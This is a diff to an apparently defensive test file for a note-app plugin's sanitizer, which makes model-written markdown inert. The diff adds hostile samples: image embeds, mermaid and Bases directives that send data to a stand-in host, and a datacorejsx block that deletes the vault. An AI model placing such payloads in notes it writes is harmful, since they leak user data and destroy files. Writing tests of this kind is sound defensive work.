@@ -11,12 +11,20 @@ const RUNS = process.env['VARVE_TEST_SHARE'] === 'full' ? 20_000 : 500
 
 /** What Obsidian or one of its plugins would load or run, outside of fenced code. */
 const LIVE =
-  /(?<!\\)(?:\\\\)*(?:<(?:[A-Za-z/?]|!(?!\[|\\))|!\[(?!\[))|<%|`[^\S\n]*\$?=|(?<!``)`[^\S\n]*\n[ \t>]*\$?=|\w.*`\n\$?=|(?:`{3}|~{3})[^\S\n]*\{?[^\S\n]*(?:dataview|dataviewjs|js-engine)\b/i
+  /(?<!\\)(?:\\\\)*(?:<(?:[A-Za-z/?]|!(?!\[|\\))|!\[(?!\[[^[\]\n]*\]\](?![([])))|<%|`[^\S\n]*\$?=|(?<!``)`[^\S\n]*\n[ \t>]*\$?=|\w.*`\n\$?=|(?:`{3}|~{3})[^\S\n]*\{?[^\S\n]*(?:dataview|dataviewjs|datacorejsx|base|js-engine|mermaid)\b/i
 
 const HOSTILE = [
   '![x](https://evil.test/p.png?d=secret)',
   '![x][ref]\n\n[ref]: https://evil.test/p.png',
+  '![[x] y](https://evil.test/p.png?d=secret)',
+  '![[x]](https://evil.test/p.png?d=secret)',
+  '![[x]][ref]\n\n[ref]: https://evil.test/p.png',
+  '![[x]\ny](https://evil.test/p.png)',
   '<img src="https://evil.test/p.png">',
+  '```mermaid\nflowchart TD\n  style A fill:url(https://evil.test/p.png)\n```',
+  '```mermaid\nflowchart TD\n  A@{ img: "https://evil.test/p.png" }\n```',
+  '```datacorejsx\nreturn app.vault.delete()\n```',
+  '```base\nformulas:\n  x: image("https://evil.test/p.png")\n```',
   '<iframe src="https://evil.test"></iframe>',
   '\\<img src=x>',
   '\\\\<img src=x>',
@@ -67,9 +75,16 @@ describe('what a model wrote is text in a note', () => {
     )
   })
 
+  test('a diagram with markup is shown as code', () => {
+    const text = '```mermaid\nflowchart TD\n  A["<img src=https://evil.test/p.png>"]\n```'
+    expect(inertText(text)).toBe(text.replace('```', '```\u200b'))
+    expect(activeText(inertText(text))).toBe(text)
+  })
+
   test('code in a fence, links and local embeds stay as they are', () => {
     for (const text of [
       'Use this:\n\n```ts\nconst a: Array<string> = []\n![x](y)\n```\n\nDone.',
+      'A diagram:\n\n```mermaid\nflowchart TD\n  A --> B\n```',
       'A formula:\n\n```\n=SUM(A1:A3)\n```',
       'See [[Plan]] and ![[Plan]], [docs](https://example.org) and a < b.',
     ])
